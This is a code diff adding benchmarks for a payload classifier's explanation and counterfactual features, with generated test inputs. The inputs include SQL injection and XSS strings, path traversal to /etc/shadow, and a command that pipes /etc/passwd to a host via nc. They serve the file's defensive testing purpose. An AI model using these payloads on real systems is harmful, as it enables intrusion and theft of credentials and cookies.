@@ -1,8 +1,11 @@
 import { readFile } from "node:fs/promises";
 import { join } from "node:path";
 import { parseBehaviour } from "../engine/detect/anomaly/behaviour-file.ts";
+import { loadClassifier } from "../engine/detect/classifier/payload-model.ts";
+import { findCounterfactual } from "../engine/explain/counterfactual.ts";
 import { createScoreExplainer } from "../engine/explain/explain-score.ts";
 import { createPathExplainer } from "../engine/explain/path-shapley.ts";
+import { explainPayload } from "../engine/explain/payload-shares.ts";
 import { createTreeExplainer } from "../engine/explain/shapley.ts";
 import { resourcesDirectory } from "../entries.ts";
 import { quantile } from "./bench-engine.ts";
@@ -16,6 +19,18 @@ function timed(times: number, action: (i: number) => void): number[] {
     action(i);
     return performance.now() - from;
   });
+}
+
+/** Attacks of 15 to 8,000 characters, some escaped. */
+function editedAttacks(): string[] {
+  return Array.from({ length: 40 }, (_, i) => [
+    `${i}' or ${i}=${i} -- `,
+    `-${i}') union select ${i},name,concat(0x7171706a71,pw) from users_${i} where 1=1 and sleep(5)-- `,
+    `<img src=x${i} onerror=alert(document.cookie)>`,
+    `;cat /etc/passwd${i}|nc 10.0.0.${i} 4444`,
+    encodeURIComponent(`"><svg/onload=confirm(${i})>../../../../etc/shadow`),
+    `${"some ordinary words in between, ".repeat(i * 6)}' union all select null,null,user() -- `,
+  ]).flat();
 }
 
 /**
@@ -45,6 +60,15 @@ export const group: BenchGroup = {
     for (const row of forest.rows.slice(0, 50)) interventional.explain(row);
     const over = timed(200, (i) => interventional.explain(forest.rows[i % forest.rows.length]!));
     report(`interventional over 100 rows, ${shape}, p50`, quantile(over, 0.5), "ms");
+    const classifier = loadClassifier(await readFile(join(resourcesDirectory, "model", "payload.bin")));
+    const attacks = editedAttacks();
+    for (const attack of attacks) findCounterfactual(classifier, attack, "query");
+    const searches = timed(attacks.length, (i) => findCounterfactual(classifier, attacks[i]!, "query"));
+    report("smallest edit that changes a payload's verdict, p50", quantile(searches, 0.5), "ms");
+    report("smallest edit that changes a payload's verdict, slowest", Math.max(...searches), "ms", "< 50");
+    const shares = timed(attacks.length, (i) => explainPayload(classifier, attacks[i]!, "query"));
+    report("shares of a payload's stretches, p95", quantile(shares, 0.95), "ms");
+
     const python = await timePythonShap();
     if (python === null) console.error("explain  Python's shap: not present");
     else {
